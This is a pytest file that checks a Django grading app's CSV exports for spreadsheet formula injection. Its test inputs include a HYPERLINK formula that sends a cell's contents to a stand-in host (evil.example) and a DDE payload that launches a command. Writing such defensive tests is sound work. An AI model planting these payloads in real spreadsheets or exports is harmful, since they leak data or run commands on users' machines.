"""Every CSV the product writes opens in a spreadsheet without running anything: a cell that
would start a formula is written as text; numbers and JSON downloads are unchanged."""

import csv
import io
import json
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotation.models import Physician
from healthbench_web.spreadsheet import csv_text, safe_cell
from tests import healthbench_rows as rows
from tests.people import person
from tests.test_import_run import graded_row, import_dataset, import_run, write_results

FORMULAS = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize("cell", [*FORMULAS, "\t=1+2", "\r=1+2"])
def test_it_quotes_a_cell_that_would_start_a_formula(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "-0.25", "+3", "1e-3", "-1.5E+2", 0.5, -7, "theme:hedging", "", None])
def test_it_leaves_numbers_and_plain_text_alone(cell):
    assert safe_cell(cell) == cell


def test_a_written_document_quotes_header_and_body_cells():
    text = csv_text(["=name", "value"], [["@x", -1.5], ["ok", "-2"]])
    assert list(csv.reader(io.StringIO(text))) == [["'=name", "value"], ["'@x", "-1.5"], ["ok", "-2"]]


@pytest.fixture
def tagged_run(db, tmp_path):
    data = rows.row("p-1", example_tags=["theme:hedging", *FORMULAS[:2]])
    data["rubrics"][0]["tags"].append("=1+2")
    data["rubrics"][1]["tags"].append("@SUM(A1:A9)")
    import_dataset(tmp_path, data)
    import_run(write_results(tmp_path / "results.json", [graded_row(data, [True, False, False])]), name="tagged")
    return "tagged"


def _first_cells(text: str) -> list[str]:
    return [r[0] for r in csv.reader(io.StringIO(text))]


def _assert_runs_nothing(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "", 1).replace("e", "", 1).isdigit()


def test_run_report_csv_from_the_command_quotes_formula_tags(tagged_run):
    out = StringIO()
    call_command("run_report", tagged_run, "--format", "csv", stdout=out)
    text = out.getvalue()
    _assert_runs_nothing(text)
    assert "'=1+2" in _first_cells(text)
    assert "'@SUM(A1:A9)" in _first_cells(text)


def test_the_report_download_quotes_formula_tags_and_json_is_unchanged(client, tagged_run):
    from grading.models import Run

    run = Run.objects.get(name=tagged_run)
    client.force_login(person("researcher", Physician.Role.RESEARCHER))
    text = client.get(reverse("report_csv", args=[run.code])).content.decode()
    _assert_runs_nothing(text)
    assert "'=1+2" in _first_cells(text)
    document = json.loads(b"".join([client.get(reverse("report_json", args=[run.code])).content]))
    assert "=1+2" in json.dumps(document)
    assert "'=1+2" not in json.dumps(document)
